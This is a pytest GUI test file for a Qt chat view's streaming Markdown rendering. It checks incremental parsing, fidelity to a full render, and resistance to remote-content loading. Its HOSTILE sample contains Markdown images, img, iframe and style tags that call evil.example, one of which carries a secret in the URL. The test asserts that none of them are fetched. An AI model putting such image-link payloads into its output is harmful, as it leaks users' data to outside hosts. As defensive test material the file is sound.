"""A streaming answer is rendered incrementally: the work per update does not grow with
the answer, the finished answer renders exactly as before, and nothing is loaded or
rendered as HTML on the way."""

from __future__ import annotations

import pytest
from PySide6.QtGui import QTextDocument

from app.chat import markdown as widgets
from app.chat.conversation import ConversationView
from app.chat.inert_markdown import InertDocument
from app.chat.markdown import TAIL_LIMIT, MarkdownView
from app.chat.message import MessageWidget
from app.shell import style
from storage.chats import COMPLETE, INTERRUPTED, STREAMING, Message

pytestmark = pytest.mark.gui

ANSWER_ID = 2

SECTION = """## Step {n}

Here is **step {n}**, with `inline code`, *emphasis* and a [link](https://example.org/{n}).
It goes on for a second line of the same paragraph.

1. first item of {n}
2. second item, with **bold**
3. third item

- a loose list

- with a second item

> A quote about step {n}.

```python
def step_{n}():

    return {n}  # a blank line inside the fence above
```

| name | value |
|------|-------|
| n    | {n}   |

    indented code
    of step {n}

---
"""


def answer(sections: int) -> str:
    return "Sure, here is the guide.\n\n" + "\n".join(SECTION.format(n=n) for n in range(sections))


def prefixes(text: str, count: int) -> list[str]:
    """The text so far at each of count updates, as ChatController.answer_updated gives it."""
    step = len(text) / count
    return [text[:round(step * (i + 1))] for i in range(count)]


def streaming_conversation(qtbot, question: str = "Explain, with code.") -> ConversationView:
    """A conversation on screen: a question, and its answer (``ANSWER_ID``) streaming."""
    conversation = ConversationView()
    qtbot.addWidget(conversation)
    conversation.resize(800, 600)
    conversation.show()
    conversation.add(Message(1, 1, 0, "user", question, COMPLETE))
    conversation.add(Message(ANSWER_ID, 1, 1, "assistant", "", STREAMING))
    return conversation


@pytest.fixture
def view(qtbot) -> ConversationView:
    return streaming_conversation(qtbot)


def body(view: ConversationView) -> MarkdownView:
    return view.widget_for(ANSWER_ID).body


def finish(view: ConversationView, text: str, status: str = COMPLETE) -> None:
    view.widget_for(ANSWER_ID).show_message(Message(ANSWER_ID, 1, 1, "assistant", text, status, {}))


def rendered_at_once(qtbot, text: str, final: bool = True) -> MarkdownView:
    """``text`` rendered in one go; ``final`` False: as a streaming answer shows it (the
    copy links under code blocks come with the end)."""
    reference = MarkdownView()
    qtbot.addWidget(reference)
    reference.set_markdown(text, final)
    return reference


@pytest.fixture
def renders(view, monkeypatch: pytest.MonkeyPatch) -> dict[str, list]:
    """Spies on the rendering: the answer's full renderings, and every Markdown parse's length."""
    seen: dict[str, list] = {"full": [], "parsed": []}
    full = MarkdownView.set_markdown
    parse = widgets.render_markdown

    def spy_full(self, text: str, final: bool = True) -> None:
        if self is body(view):
            seen["full"].append(text)
        full(self, text, final)

    def spy_parse(document: QTextDocument, markdown: str) -> None:
        seen["parsed"].append(len(markdown))
        parse(document, markdown)

    monkeypatch.setattr(MarkdownView, "set_markdown", spy_full)
    monkeypatch.setattr(widgets, "render_markdown", spy_parse)
    return seen


def test_streaming_2000_updates_then_finishing_renders_exactly_as_at_once(qtbot, view) -> None:
    text = answer(12) + "\n```\n" + "x = 1  # a long code block\n" * 150 + "```\n\nThe end."
    assert len(text) - text.index("x = 1") > TAIL_LIMIT  # some updates extend a long open block
    for so_far in prefixes(text, 2_000):
        view.update_text(ANSWER_ID, so_far)
    assert view.widget_for(ANSWER_ID).text() == text
    finish(view, text)

    reference = rendered_at_once(qtbot, text)
    assert body(view).toPlainText() == reference.toPlainText()
    assert body(view).toHtml() == reference.toHtml()
    reopened = MessageWidget(Message(ANSWER_ID, 1, 1, "assistant", text, COMPLETE, {}))
    qtbot.addWidget(reopened)
    assert body(view).toHtml() == reopened.body.toHtml()  # as the chat shows when opened again


def test_the_work_per_update_does_not_grow_with_the_answer(view, renders) -> None:
    text = answer(50)
    updates = prefixes(text, 1_500)
    per_update = []
    for so_far in updates:
        before = len(renders["parsed"])
        view.update_text(ANSWER_ID, so_far)
        per_update.append(sum(renders["parsed"][before:]))

    assert len(renders["full"]) <= 1  # once at the start, never per update
    assert len(text) > 20_000
    assert max(per_update) <= 1_000  # only the open block (and a finished one) is parsed again
    quarter = len(per_update) // 4
    assert sum(per_update[-quarter:]) <= 1.5 * sum(per_update[:quarter])  # not growing

    finish(view, text)
    assert renders["full"][-1] == text  # one full rendering for the finished answer


def test_a_long_open_block_is_extended_without_parsing_it_again(qtbot, view, renders) -> None:
    text = "Code:\n\n```python\n" + "".join(f"value_{i} = {i}\n" for i in range(1_000))
    assert len(text) > 5 * TAIL_LIMIT
    per_update = []
    for so_far in prefixes(text, 800):
        before = len(renders["parsed"])
        view.update_text(ANSWER_ID, so_far)
        per_update.append(sum(renders["parsed"][before:]))
    assert max(per_update) <= TAIL_LIMIT + 100
    assert per_update[-400:] == [0] * 400  # once it is long, it is not parsed again
    line = _find_block(body(view).document(), "value_999 = 999")
    reference = rendered_at_once(qtbot, text)
    code = _find_block(reference.document(), "value_999 = 999")
    assert line.blockFormat() == code.blockFormat()  # still looks like code: shaded, as a fence
    assert line.begin().fragment().charFormat() == code.begin().fragment().charFormat()

    text += "```\n\nDone."
    view.update_text(ANSWER_ID, text)
    finish(view, text)
    assert body(view).toHtml() == rendered_at_once(qtbot, text).toHtml()


def test_while_streaming_the_answer_already_looks_rendered(qtbot, view) -> None:
    text = answer(3)
    checked = 0
    for so_far in prefixes(text, 400):
        view.update_text(ANSWER_ID, so_far)
        if so_far.endswith("\n\n"):  # a block just finished: the view matches a full rendering
            assert _lines(body(view)) == _lines(rendered_at_once(qtbot, so_far, final=False))
            checked += 1
    assert checked >= 3
    plain = body(view).toPlainText()
    assert "**" not in plain and "```" not in plain and "## " not in plain
    lists = [b.textList() for b in _blocks(body(view).document())]
    assert any(lst is not None for lst in lists)
    assert any(b.blockFormat().background().color().name() == style.current().code_background for b in _blocks(body(view).document()))


def test_the_view_keeps_fitting_its_text_while_streaming(view) -> None:
    text = answer(4)
    heights = []
    for so_far in prefixes(text, 200):
        view.update_text(ANSWER_ID, so_far)
        markdown = body(view)
        margins = markdown.contentsMargins()
        expected = int(markdown.document().size().height()) + margins.top() + margins.bottom() + 2
        assert markdown.height() == expected
        heights.append(markdown.height())
    assert heights[-1] > heights[0]


@pytest.mark.parametrize("text", [
    "---\ntitle: front matter, which Qt hides\n---\n\nThe answer.\n\nMore.",
    "Intro.\n\n---\n\nA rule above, not front matter.\n\n---\n\nAnd another.",
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n- a list after a table\n- two\n\nEnd.",
    "```\n```\n\nAfter an empty fence.\n\n[ref]: https://example.org\n\nAfter a definition.",
    "Windows\r\nline ends\r\n\r\n```\r\ncode\r\n\r\nmore\r\n```\r\n\r\nEnd.",
    "~~~~\n```\nnot closed by a backtick fence\n\nstill code\n~~~~\n\nText.",
    "- item\n\n  its second paragraph\n\n      and code in it\n\nAfter the list.",
    # An empty list item that is its list's only block ended a finished block: Qt deleted
    # the list with it, and the next update raised (seen in the soak, a model's answer).
    "1.\n\nText after an empty item.",
    "1. First\n\n2.\n\nThird paragraph.",
    "- a\n\n-\n\n- c\n\nEnd.",
    "Text\n\n-\n-\n\nEnd.",
])
def test_tricky_markdown_streams_like_its_full_rendering(qtbot, view, text: str) -> None:
    for so_far in prefixes(text, len(text)):  # a character at a time
        view.update_text(ANSWER_ID, so_far)
    assert _lines(body(view)) == _lines(rendered_at_once(qtbot, text, final=False))
    finish(view, text)
    assert body(view).toHtml() == rendered_at_once(qtbot, text).toHtml()


def test_an_answer_that_opens_with_a_rule_is_not_hidden_as_front_matter(qtbot, view) -> None:
    """Qt hides a leading "---" block as YAML front matter: the model's words must show."""
    text = "---\ntitle: the first lines of the answer\n---\n\nThe rest."
    view.update_text(ANSWER_ID, text)
    finish(view, text)
    assert "title: the first lines of the answer" in body(view).toPlainText()
    assert "title: the first lines" in rendered_at_once(qtbot, text).toPlainText()


HOSTILE = (
    "Here is your data ![chart](https://evil.example/leak?secret=hunter2) inline.\n\n"
    "![ref image][r]\n\n[r]: http://evil.example/r.png\n\n"
    '<img src="https://evil.example/img.png"> <b>not bold</b> <iframe src="https://evil.example/f"></iframe>\n\n'
    '<style>body { background: url("https://evil.example/bg.png") }</style>\n\n'
    "```html\n" + '<img src="https://evil.example/code.png">\n' * (TAIL_LIMIT // 30) + "```\n\n"
    "The end, with ![another](https://evil.example/last.png) image."
)


def test_streamed_images_stay_inert_and_html_is_never_rendered(qtbot, view, monkeypatch) -> None:
    requested: list[str] = []

    def recording(_self, _kind, url):
        requested.append(url.toString())

    monkeypatch.setattr(MarkdownView, "loadResource", recording)
    monkeypatch.setattr(InertDocument, "loadResource", recording)
    markdown = body(view)
    for i, so_far in enumerate(prefixes(HOSTILE, 300)):
        view.update_text(ANSWER_ID, so_far)
        if i % 25 == 0:
            markdown.grab()  # lay out and paint what is shown now
        assert not _images(markdown.document())
        assert not _bold_text(markdown.document(), "not bold")
    markdown.grab()
    streamed = markdown.toPlainText()
    finish(view, HOSTILE)
    markdown.grab()
    for text in (streamed, markdown.toPlainText()):
        assert "image: chart" in text and "image: another" in text
        assert "<b>not bold</b>" in text and "<iframe" in text  # shown as text, not rendered
    assert not _images(markdown.document()) and not _bold_text(markdown.document(), "not bold")
    assert requested == []  # nothing asked for, so nothing can be fetched or read


def test_an_update_that_does_not_extend_the_text_renders_it_afresh(qtbot, view, renders) -> None:
    first = "The first answer.\n\nIt has **two** paragraphs.\n\n- and a"
    for so_far in prefixes(first, 40):
        view.update_text(ANSWER_ID, so_far)
    full_before = len(renders["full"])

    replaced = "Another answer entirely.\n\n1. with\n2. a list"
    parsed_before = len(renders["parsed"])
    view.update_text(ANSWER_ID, replaced)
    assert len(renders["full"]) == full_before + 1  # rendered again from the start
    assert sum(renders["parsed"][parsed_before:]) == len(replaced)  # all of it
    assert view.widget_for(ANSWER_ID).text() == replaced
    assert body(view).toPlainText() == rendered_at_once(qtbot, replaced).toPlainText()
    assert "first answer" not in body(view).toPlainText()

    shorter = "Another answer"
    view.update_text(ANSWER_ID, shorter)
    assert len(renders["full"]) == full_before + 2
    assert body(view).toPlainText() == "Another answer"

    longer = shorter + " entirely, and longer.\n\nWith a second paragraph."
    for so_far in [p for p in prefixes(longer, 30) if len(p) > len(shorter)]:
        view.update_text(ANSWER_ID, so_far)
    assert len(renders["full"]) == full_before + 2  # extending again: incremental again
    finish(view, longer, INTERRUPTED)
    assert body(view).toHtml() == rendered_at_once(qtbot, longer).toHtml()


def test_a_finished_answer_then_streamed_again_starts_over(qtbot, view, renders) -> None:
    finish(view, "An old answer.")
    view.update_text(ANSWER_ID, "An old answer. Extended.")
    assert body(view).toPlainText() == "An old answer. Extended."
    assert renders["full"][-1] == ""  # what is shown was a full rendering: start again


def _lines(view: MarkdownView) -> list[str]:
    return [line for line in view.toPlainText().splitlines() if line.strip()]


def _find_block(document: QTextDocument, text: str):
    return next(block for block in _blocks(document) if block.text() == text)


def _blocks(document: QTextDocument):
    block = document.begin()
    while block.isValid():
        yield block
        block = block.next()


def _fragments(document: QTextDocument):
    for block in _blocks(document):
        iterator = block.begin()
        while not iterator.atEnd():
            yield iterator.fragment()
            iterator += 1


def _images(document: QTextDocument) -> list[str]:
    return [f.text() for f in _fragments(document) if f.charFormat().isImageFormat()]


def _bold_text(document: QTextDocument, text: str) -> bool:
    return any(text in f.text() and f.charFormat().fontWeight() > 400 for f in _fragments(document))
